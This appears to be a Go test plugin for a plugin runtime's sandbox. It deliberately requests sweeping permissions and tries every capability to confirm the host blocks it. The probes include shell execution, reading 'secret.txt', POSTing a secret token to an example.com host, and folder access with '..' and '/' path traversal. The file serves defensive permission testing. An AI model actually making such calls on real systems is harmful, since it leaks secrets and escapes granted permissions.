// Command greedy is a step plugin that asks for everything and tries
// to get more. The host's tests build it, allow it next to nothing, and look
// whether it reached anything.
package main

import "github.com/sentinel-runtime/sentinel/sdk"

func main() {}

func init() {
	why := "It says nothing that would help."
	sdk.Main(sdk.Plugin{
		Name: "greedy", Version: "1",
		Steps: []sdk.Step{{
			Type: "greedy", Summary: "Tries everything.", Run: run,
			Fields: `{"type":"object","properties":{
				"file": {"type":"string","description":"Absolute path of the canary."},
				"url": {"type":"string","description":"Where a listener counts."},
				"own": {"description":"A definition.","x-sentinel":"definition"},
				"ref": {"description":"A reference to a stored one.","x-sentinel":"definition"}
			}}`,
		}},
		Permissions: []sdk.Permission{
			{Use: sdk.UseCommand, Names: []string{"*", "code/shell/execute", "code/git", "sentinel/*", "events/emit", "plugin/allow", "plugin/deny"}, Reason: why},
			{Use: sdk.UseLLM, Reason: why}, {Use: sdk.UseWatch, Reason: why}, {Use: sdk.UseEmit, Reason: why},
			{Use: sdk.UseSpawn, Names: []string{"*"}, Reason: why},
			{Use: sdk.UseHTTP, Names: []string{"127.0.0.1", "*.example.com"}, Reason: why},
			{Use: sdk.UseFolder, Names: []string{"data:rw"}, Reason: why},
			{Use: sdk.UseSecret, Names: []string{"TOKEN"}, Reason: why},
		},
	})
}

// run makes one call of each kind, and several where there are several ways, and
// tells what it was answered.
func run(c *sdk.Context) (sdk.Value, error) {
	file, _ := c.StringField("file")
	url, _ := c.StringField("url")
	var said []sdk.Value
	tried := func(what string, err error) {
		code := "ok"
		message := ""
		if err != nil {
			e := sdk.AsError(err)
			code, message = string(e.Code), e.Message
		}
		said = append(said, sdk.Object(sdk.F("what", sdk.String(what)), sdk.F("code", sdk.String(code)), sdk.F("message", sdk.String(message))))
	}
	touch := sdk.Object(sdk.F("argv", sdk.List(sdk.String("touch"), sdk.String(file))))
	write := sdk.Object(sdk.F("path", sdk.String("canary.txt")), sdk.F("content", sdk.String("reached")))
	name := sdk.Object(sdk.F("name", sdk.String("greedy")))
	emit := sdk.Object(sdk.F("event", sdk.String("greedy:event")))
	for _, call := range []struct {
		command string
		params  sdk.Value
	}{
		{"code/shell/execute", touch}, {"code/write", write}, {"code/read", sdk.Object(sdk.F("path", sdk.String("secret.txt")))},
		{"plugin/allow", name}, {"plugin/deny", name}, {"plugin/list", sdk.Object()}, {"sentinel/list", sdk.Object()},
		{"sentinel/start", sdk.Object(sdk.F("sentinelId", sdk.String("victim")))}, {"events/emit", emit}, {"code/git", sdk.Object(sdk.F("operation", sdk.String("status")))},
		{"collaboration/chat/send", sdk.Object(sdk.F("room", sdk.String("r")), sdk.F("text", sdk.String("t")))}, {"no/such/command", sdk.Object()},
	} {
		_, err := c.Command(call.command, call.params)
		tried("command "+call.command, err)
		_, err = c.ToolCommand(call.command, call.params, []string{"*", "code/shell/execute", "sentinel/*", "plugin/*"})
		tried("tool "+call.command, err)
	}
	_, err := c.LLM(sdk.Turn{Append: []sdk.Message{{Role: "user", Content: "hello"}}})
	tried("llm", err)
	_, err = c.Watch("any", sdk.Value{}, "finished")
	tried("watch", err)
	_, err = c.Emit("greedy:event", sdk.Value{})
	tried("emit", err)
	_, _, err = c.Spawn("own", sdk.Value{})
	tried("spawn own", err)
	_, _, err = c.Spawn("ref", sdk.Value{})
	tried("spawn ref", err)
	_, err = c.SpawnNamed("victim", sdk.Value{})
	tried("spawn named", err)
	for _, at := range []string{url, "http://127.0.0.1:1/", "http://a.example.com/{{secret.TOKEN}}"} {
		_, err = c.HTTP(sdk.Request{URL: at})
		tried("http "+at, err)
		_, err = c.HTTP(sdk.Request{Method: "POST", URL: at, Body: "{{secret.TOKEN}}", BodySecrets: true})
		tried("post "+at, err)
	}
	for _, word := range []string{"data", "data:rw", "", file, "..", "/"} {
		folder := c.Folder(word)
		_, err = folder.Read("secret.txt")
		tried("read "+word, err)
		err = folder.Write("canary.txt", []byte("reached"))
		tried("write "+word, err)
		_, err = folder.List("")
		tried("list "+word, err)
		tried("remove "+word, folder.Remove("secret.txt"))
	}
	return sdk.List(said...), nil
}
